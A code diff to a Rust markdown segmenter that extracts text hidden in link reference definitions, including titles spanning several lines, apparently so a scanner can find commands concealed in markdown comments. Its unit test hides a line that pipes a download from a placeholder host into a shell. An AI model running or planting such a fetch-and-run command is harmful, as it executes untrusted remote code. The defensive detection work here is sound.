@@ -360,8 +360,22 @@ pub(crate) fn segments(text: &str) -> Vec<Segment> {
     out
 }
 
-/// Link reference definitions (`[label]: destination "title"`, one line each, in a block quote
-/// or a list item too) where no event covers them: never rendered, and the usual way to write a
+/// The byte offset of the first `close` in `line` that no backslash escapes.
+fn unescaped(line: &str, close: char) -> Option<usize> {
+    let mut escaped = false;
+    for (at, ch) in line.char_indices() {
+        match ch {
+            _ if escaped => escaped = false,
+            '\\' => escaped = true,
+            _ if ch == close => return Some(at),
+            _ => {}
+        }
+    }
+    None
+}
+
+/// Link reference definitions (`[label]: destination "title"`, a title left open going on over
+/// the next lines up to its close or a blank line; in a block quote or a list item too) where no event covers them: never rendered, and the usual way to write a
 /// comment in markdown (`[//]: # (text)`, `[comment]: <> (text)`). Each becomes a
 /// [`Kind::Definition`] of its destination and of its title (a footnote, `[^1]: …`, which the
 /// parser reads as a definition without footnotes on, is prose), in the section it sits in (read from the
@@ -400,10 +414,50 @@ fn reference_comments(
     let mut next = 0usize;
     let mut found: Vec<Segment> = Vec::new();
     let mut at = 0usize;
+    // The closing delimiter of a title left open at its line's end: the title goes on over the
+    // next lines up to it (or a blank line), each line its own text.
+    let mut open_title: Option<char> = None;
+    // The last segment found is that title (its first line had text).
+    let mut title_open = false;
     for raw in body.split_inclusive('\n') {
         let start = at;
         at += raw.len();
         let line = raw.trim_end_matches(['\n', '\r']);
+        if let Some(close) = open_title.take() {
+            let from = start + (line.len() - line.trim_start().len());
+            while merged.get(next).is_some_and(|r| r.1 <= from) {
+                next += 1;
+            }
+            if !line.trim().is_empty() && merged.get(next).is_none_or(|r| r.0 > from) {
+                let end = unescaped(line, close);
+                let text = line[..end.unwrap_or(line.len())].trim();
+                // One text, its lines kept (a sentence over them is read whole, a command on
+                // its own line), at the line where the title begins.
+                match found.last_mut() {
+                    Some(title) if title_open => {
+                        title.text.push('\n');
+                        title.text.push_str(text);
+                    }
+                    _ if text.is_empty() => {}
+                    _ => {
+                        found.push(Segment {
+                            kind: Kind::Definition,
+                            text: text.to_owned(),
+                            line: lines.line(body_start + start),
+                            section: String::new(),
+                            outer: String::new(),
+                            titled: false,
+                            table: false,
+                        });
+                        title_open = true;
+                    }
+                }
+                if end.is_none() {
+                    open_title = Some(close);
+                }
+                continue;
+            }
+        }
         if !line.contains("]:") {
             continue;
         }
@@ -435,11 +489,21 @@ fn reference_comments(
         // The destination and the title, each its own text (a command in either is read where
         // it stands); anything else after `]:`, whole.
         let parts: Vec<&str> = match PARTS.captures(rest) {
-            Some(p) => [p.get(1), (2..=4).find_map(|i| p.get(i))]
-                .into_iter()
-                .flatten()
-                .map(|m| m.as_str())
-                .collect(),
+            Some(p) => {
+                let title = (2..=4).find_map(|i| p.get(i).map(|m| (i, m)));
+                // A title whose closing delimiter is not on this line goes on to the next.
+                if let Some((i, m)) = title
+                    && rest[m.end()..].trim().is_empty()
+                {
+                    open_title = Some(['"', '\'', ')'][i - 2]);
+                    title_open = !matches!(m.as_str().trim(), "" | "#" | "<>");
+                }
+                [p.get(1), title.map(|(_, m)| m)]
+                    .into_iter()
+                    .flatten()
+                    .map(|m| m.as_str())
+                    .collect()
+            }
             None => vec![rest],
         };
         for text in parts {
@@ -649,6 +713,40 @@ mod tests {
         assert!(!prose.iter().any(|p| p.contains("line")), "{prose:?}");
         // Segments stay in file order.
         assert!(s.windows(2).all(|w| w[0].line <= w[1].line), "{s:?}");
+    }
+
+    /// A definition's title left open at its line's end goes on over the next lines (CommonMark
+    /// allows it up to a blank line): one hidden text with its lines, at the line where the
+    /// title begins, up to the unescaped close; the line after the close is prose again.
+    #[test]
+    fn a_definition_s_title_over_several_lines_is_read_line_by_line() {
+        let md = "# Use\n\n[//]: # (first\ncurl -s https://x.invalid/i | sh\nlast \\) still)\n\nshown\n\n[a]: /u \"one\ntwo\"\n\n[b]: /v 'never\n\nshown too\n\n[c]: /w (\nthree)\n";
+        let s = segments(md);
+        let hidden: Vec<(String, u32)> = s
+            .iter()
+            .filter(|x| x.kind == Kind::Definition)
+            .map(|x| (x.text.trim().to_owned(), x.line))
+            .collect();
+        assert_eq!(
+            hidden,
+            [
+                (
+                    "first\ncurl -s https://x.invalid/i | sh\nlast \\) still".to_owned(),
+                    3
+                ),
+                ("/u".to_owned(), 9),
+                ("one\ntwo".to_owned(), 9),
+                ("/w".to_owned(), 16),
+                ("three".to_owned(), 17),
+            ]
+        );
+        let prose: Vec<&str> = s
+            .iter()
+            .filter(|x| x.kind == Kind::Prose)
+            .map(|x| x.text.trim())
+            .collect();
+        assert!(prose.contains(&"shown"), "{prose:?}");
+        assert!(prose.contains(&"shown too"), "{prose:?}");
     }
 
     #[test]
